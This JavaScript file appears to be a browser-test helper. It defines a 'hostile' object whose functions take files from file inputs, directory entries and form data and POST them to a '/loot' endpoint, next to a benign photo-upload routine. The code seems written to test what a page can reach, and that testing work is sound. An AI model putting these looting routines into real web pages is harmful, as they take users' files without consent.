// Before every attempt: whatever it gets hold of goes to the site's server, which knows an original when it sees one.
window.hostile = (() => {
  const { fetch, FormData, HTMLInputElement, String, WeakSet } = window;
  const says = window.Object.prototype.toString;
  const seen = new WeakSet();
  const filesOf = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'files').get;

  // A file of another frame is no Blob of this one.
  function isBlob(thing) {
    return ['[object File]', '[object Blob]'].includes(says.call(thing));
  }

  function loot(thing) {
    if (typeof thing === 'object' && thing !== null) {
      if (seen.has(thing)) return;
      seen.add(thing);
    }
    void fetch('/loot', { method: 'POST', body: isBlob(thing) ? thing : String(thing) });
  }

  function lootFiles(list) {
    for (let at = 0; at < (list?.length ?? 0); at++) loot(list[at]);
  }

  function lootInput(input) {
    lootFiles(filesOf.call(input));
    lootFiles(input.files);
    for (const entry of input.webkitEntries ?? []) entry.file?.(loot, () => undefined);
    if (input.form) for (const [, value] of new FormData(input.form)) if (isBlob(value) && value.size > 0) loot(value);
  }

  // What a site does that means no harm.
  async function upload(files) {
    const form = new FormData();
    for (const file of files) form.append('photo', file);
    await fetch('/upload', { method: 'POST', body: form });
  }

  function uploadFrom(input) {
    input.addEventListener('change', () => input.files.length > 0 && upload(input.files));
  }

  return { loot, lootFiles, lootInput, upload, uploadFrom };
})();
